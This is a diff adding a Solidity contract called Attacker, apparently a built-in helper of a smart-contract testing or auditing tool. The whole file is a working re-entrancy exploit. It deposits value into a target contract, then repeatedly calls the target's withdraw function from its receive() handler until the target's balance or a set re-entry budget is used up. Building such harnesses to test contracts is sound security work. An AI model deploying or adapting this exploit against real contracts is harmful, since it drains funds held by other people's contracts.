@@ -0,0 +1,51 @@
+// SPDX-License-Identifier: MIT
+
+pragma solidity >=0.6.2 <0.9.0;
+
+/// The built-in helper draining a target with the classic re-entrancy attack.
+///
+/// The attack deposits the sent value, and then withdraws it. Each transfer received during
+/// the withdrawal withdraws again, until the target balance or the re-entry budget is exhausted.
+contract Attacker {
+    address public target;
+    bytes public withdrawData;
+    uint256 public reentriesLeft;
+    uint256 public reentries;
+    bool public lastReentrySuccess;
+
+    function attack(
+        address _target,
+        bytes memory _depositData,
+        bytes memory _withdrawData,
+        uint256 _reentries
+    ) public payable returns (uint256) {
+        target = _target;
+        withdrawData = _withdrawData;
+        reentriesLeft = _reentries;
+        reentries = 0;
+
+        (bool success, bytes memory result) = _target.call{value: msg.value}(_depositData);
+        if (!success) {
+            assembly {
+                revert(add(result, 32), mload(result))
+            }
+        }
+        (success, result) = _target.call(_withdrawData);
+        if (!success) {
+            assembly {
+                revert(add(result, 32), mload(result))
+            }
+        }
+        return address(this).balance;
+    }
+
+    receive() external payable {
+        if (reentriesLeft == 0 || target.balance == 0) {
+            return;
+        }
+        reentriesLeft -= 1;
+        reentries += 1;
+        (bool success, ) = target.call(withdrawData);
+        lastReentrySuccess = success;
+    }
+}